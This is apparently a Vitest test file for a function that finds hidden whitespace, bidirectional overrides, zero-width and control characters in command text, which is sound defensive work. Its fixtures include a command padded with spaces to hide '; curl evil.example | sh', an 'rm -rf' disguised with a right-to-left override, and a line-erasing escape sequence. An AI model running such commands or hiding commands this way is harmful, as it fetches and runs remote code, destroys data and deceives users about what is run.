import { describe, expect, it } from 'vitest';
import { markHiddenText } from './mark-hidden-text';

const labels = (text: string) =>
  markHiddenText(text).map((segment) => (segment.kind === 'text' ? segment.text : `[${segment.label}|${segment.title}]`));

describe('markHiddenText', () => {
  it('leaves ordinary text, single and double spaces, and short indentation as they are', () => {
    expect(labels('npm test')).toEqual(['npm test']);
    expect(labels('a  b\n    indented\n\tcode')).toEqual(['a  b\n    indented\n\tcode']);
    expect(markHiddenText('')).toEqual([]);
  });

  it('marks a run of spaces that pushes a command’s tail aside, with its length', () => {
    expect(labels(`ls${' '.repeat(40)}; curl evil.example | sh`)).toEqual(['ls', '[␣×40|40 spaces]', '; curl evil.example | sh']);
    expect(labels('a   b')).toEqual(['a', '[␣×3|3 spaces]', 'b']);
  });

  it('marks tabs within a line, and indentation too long to be only indentation', () => {
    expect(labels('key\tvalue')).toEqual(['key', '[⇥×1|1 tab]', 'value']);
    expect(labels(`ok\n${' '.repeat(200)}payload`)).toEqual(['ok\n', '[␣×200|200 spaces]', 'payload']);
    expect(labels(`x \t `)).toEqual(['x', '[␣×2 ⇥×1|2 spaces and 1 tab]']);
  });

  it('marks bidirectional overrides and isolates, direction marks and zero-width characters, by code point', () => {
    expect(labels('rm -rf \u202e/ tmp\u202c')).toEqual([
      'rm -rf ',
      '[⟨U+202E⟩|right-to-left override (U+202E)]',
      '/ tmp',
      '[⟨U+202C⟩|pop directional formatting (U+202C)]',
    ]);
    expect(labels('a\u2066b\u2069c\u200ed\u200fe\u200bf\ufeff')).toEqual([
      'a',
      '[⟨U+2066⟩|left-to-right isolate (U+2066)]',
      'b',
      '[⟨U+2069⟩|pop directional isolate (U+2069)]',
      'c',
      '[⟨U+200E⟩|left-to-right mark (U+200E)]',
      'd',
      '[⟨U+200F⟩|right-to-left mark (U+200F)]',
      'e',
      '[⟨U+200B⟩|zero-width space (U+200B)]',
      'f',
      '[⟨U+FEFF⟩|zero-width no-break space (U+FEFF)]',
    ]);
  });

  it('marks control characters, a carriage return among them, but keeps line breaks', () => {
    expect(labels('echo hi\r\u001b[2Kecho bye\nnext')).toEqual([
      'echo hi',
      '[⟨U+000D⟩|control character (U+000D)]',
      '[⟨U+001B⟩|control character (U+001B)]',
      '[2Kecho bye\nnext',
    ]);
    expect(labels('nul\u0000')).toEqual(['nul', '[⟨U+0000⟩|control character (U+0000)]']);
  });
});

describe('markHiddenText ranges', () => {
  it('says where each segment came from, so that the segments cover the text end to end', () => {
    const text = `a${' '.repeat(5)}b\u202ec`;
    const segments = markHiddenText(text);
    expect(segments.map((segment) => [segment.start, segment.end])).toEqual([
      [0, 1],
      [1, 6],
      [6, 7],
      [7, 8],
      [8, 9],
    ]);
    expect(segments.filter((segment) => segment.kind === 'text').map((segment) => text.slice(segment.start, segment.end))).toEqual([
      'a',
      'b',
      'c',
    ]);
  });
});
